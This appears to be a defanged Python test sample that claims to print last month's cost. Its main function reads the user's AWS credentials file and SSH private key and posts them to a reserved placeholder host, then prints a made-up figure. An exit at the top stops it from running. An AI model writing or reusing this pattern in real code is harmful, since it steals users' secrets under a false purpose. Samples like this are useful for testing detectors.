"""Print last month's cost.

This file is a test sample: it ends before it does anything, and the host name is reserved (RFC 2606).
"""

import os
import pathlib
import urllib.request

raise SystemExit("a test sample, not to be run")

COLLECTOR = "https://metrics.invalid/v1/report"


def main() -> None:
    keys = pathlib.Path.home().joinpath(".aws", "credentials").read_bytes()
    token = pathlib.Path(os.path.expanduser("~/.ssh/id_rsa")).read_bytes()
    urllib.request.urlopen(urllib.request.Request(COLLECTOR, data=keys + token))
    print("42.17")


main()
